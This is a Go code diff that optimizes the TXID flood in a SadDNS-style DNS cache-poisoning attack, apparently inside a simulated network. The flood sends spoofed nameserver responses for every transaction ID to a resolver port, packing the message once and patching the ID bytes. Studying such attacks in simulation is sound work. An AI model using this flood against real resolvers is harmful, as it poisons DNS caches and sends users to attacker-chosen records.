@@ -241,20 +241,26 @@ func (a *SadDNS) nextChunk(n int) []uint16 {
 }
 
 // floodTXIDs sends one spoofed response per possible TXID to the
-// discovered port.
+// discovered port. The 64k responses differ only in their ID field
+// (the first two wire bytes), so the message is packed once and the
+// ID patched in place — SendUDPSpoofed serializes the payload into a
+// fresh buffer before the next patch, so the reuse is safe. This
+// keeps the flood (by far the hottest loop of a SadDNS run) from
+// re-encoding an identical message 65536 times.
 func (a *SadDNS) floodTXIDs(port uint16) {
 	resp := &dnswire.Message{
 		Response: true, Authoritative: true, RecursionDesired: true,
 		Questions: []dnswire.Question{{Name: dnswire.CanonicalName(a.Spoof.QName), Type: a.Spoof.QType, Class: dnswire.ClassIN}},
 		Answers:   a.Spoof.Records,
 	}
+	wire, err := resp.Pack()
+	if err != nil {
+		return
+	}
 	a.floodAt = a.Attacker.Network().Clock.Now()
 	for txid := 0; txid < 1<<16; txid++ {
-		resp.ID = uint16(txid)
-		wire, err := resp.Pack()
-		if err != nil {
-			return
-		}
+		wire[0] = byte(txid >> 8)
+		wire[1] = byte(txid)
 		a.Attacker.SendUDPSpoofed(a.NSAddr, 53, a.ResolverAddr, port, wire)
 	}
 }
